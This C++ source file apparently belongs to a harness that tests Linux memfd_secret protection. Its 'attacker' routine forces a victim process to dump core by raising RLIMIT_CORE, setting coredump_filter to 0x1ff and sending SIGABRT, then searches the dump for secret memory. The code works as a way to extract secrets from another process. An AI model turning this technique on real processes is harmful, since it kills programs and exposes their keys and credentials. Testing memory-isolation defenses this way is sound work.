#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/resource.h>
#include <unistd.h>

#include <cerrno>
#include <ctime>

#include "attacks.h"
#include "memory_map.h"

namespace memfd_secret::attacker {
namespace {

constexpr int kWaitMilliseconds = 20000;
constexpr int kPollMilliseconds = 20;

// Every bit that there is (core(5)), shared mappings of files among them, which would take in
// secret memory if the kernel let it.
constexpr char kEverything[] = "0x1ff";

// 'Z' while the parent has not collected it, NUL once it is gone.
char StateOf(pid_t pid) {
  std::string text;
  if (ReadWholeFile("/proc/" + std::to_string(pid) + "/stat", &text) != 0) return '\0';
  // The name in parentheses may itself hold parentheses and spaces.
  const size_t after_name = text.rfind(") ");
  if (after_name == std::string::npos || after_name + 2 >= text.size()) return '\0';
  return text[after_name + 2];
}

bool WaitForEnd(pid_t pid) {
  for (int waited = 0; waited < kWaitMilliseconds; waited += kPollMilliseconds) {
    const char state = StateOf(pid);
    if (state == '\0' || state == 'Z' || state == 'X') return true;
    const timespec pause = {0, kPollMilliseconds * 1000000L};
    nanosleep(&pause, nullptr);
  }
  return false;
}

int WriteText(const std::string& path, const char* text, size_t length) {
  const int fd = open(path.c_str(), O_WRONLY | O_CLOEXEC);
  if (fd < 0) return errno;
  const int error = write(fd, text, length) == static_cast<ssize_t>(length) ? 0 : errno;
  close(fd);
  return error;
}

// Only of this one process. The hard limit can be raised by root alone.
int AllowCore(pid_t pid) {
  rlimit limit;
  if (prlimit(pid, RLIMIT_CORE, nullptr, &limit) != 0) return errno;
  const rlimit unlimited = {RLIM_INFINITY, RLIM_INFINITY};
  if (prlimit(pid, RLIMIT_CORE, &unlimited, nullptr) == 0) return 0;
  if (limit.rlim_max == 0) return EPERM;
  const rlimit raised = {limit.rlim_max, limit.rlim_max};
  return prlimit(pid, RLIMIT_CORE, &raised, nullptr) == 0 ? 0 : errno;
}

// "core" and "core.PID" are what a relative core_pattern without a folder usually gives; the
// victim's working directory is its own, so that any file that begins so is its dump.
std::string FindCore(const std::string& folder, const std::string& prefix) {
  std::string found;
  DIR* directory = opendir(folder.c_str());
  if (directory == nullptr) return found;
  for (const dirent* entry = readdir(directory); entry != nullptr; entry = readdir(directory)) {
    const std::string name = entry->d_name;
    if (name[0] != '.' && name.compare(0, prefix.size(), prefix) == 0) {
      found = folder + "/" + name;
    }
  }
  closedir(directory);
  return found;
}

// Why no file will come, or empty. `prefix` is the part of the pattern before its first %
// specifier.
std::string ReasonAgainstCore(std::string* prefix) {
  std::string pattern;
  if (ReadWholeFile("/proc/sys/kernel/core_pattern", &pattern) != 0) return "core_pattern unknown";
  while (!pattern.empty() && pattern.back() == '\n') pattern.pop_back();
  if (pattern.empty()) return "core_pattern is empty";
  if (pattern[0] == '|' || pattern[0] == '@') {
    return "core_pattern hands dumps to another program";
  }
  if (pattern.find('/') != std::string::npos) {
    return "core_pattern names a folder outside the victim's own";
  }
  *prefix = pattern.substr(0, pattern.find('%'));
  return std::string();
}

}  // namespace

bool AttackKernelCore(const Request& request, Result* result) {
  const pid_t pid = request.pid;
  std::string prefix;
  const std::string reason = ReasonAgainstCore(&prefix);
  if (!reason.empty()) return result->Fail(reason, 0);
  const std::string proc = "/proc/" + std::to_string(pid);
  char folder[4096];
  const ssize_t length = readlink((proc + "/cwd").c_str(), folder, sizeof folder);
  if (length < 0) return result->Fail("/proc/PID/cwd", errno);
  const std::string victim_folder(folder, static_cast<size_t>(length));
  if (!FindCore(victim_folder, prefix).empty()) {
    return result->Fail("a file of the dump's name is there already", 0);
  }
  int error = AllowCore(pid);
  if (error != 0) return result->Fail("RLIMIT_CORE", error);
  error = WriteText(proc + "/coredump_filter", kEverything, sizeof kEverything - 1);
  if (error != 0) return result->Fail("/proc/PID/coredump_filter", error);
  if (kill(pid, SIGABRT) != 0) return result->Fail("kill", errno);
  if (!WaitForEnd(pid)) return result->Fail("the victim did not end", ETIMEDOUT);
  const std::string core = FindCore(victim_folder, prefix);
  if (core.empty()) return result->Fail("the kernel left no core file", 0);
  Request dump = request;
  dump.path = core;
  const bool searched = SearchFile(dump, result);
  if (unlink(core.c_str()) != 0) return result->Fail("unlink of the core file", errno);
  return searched;
}

}  // namespace memfd_secret::attacker
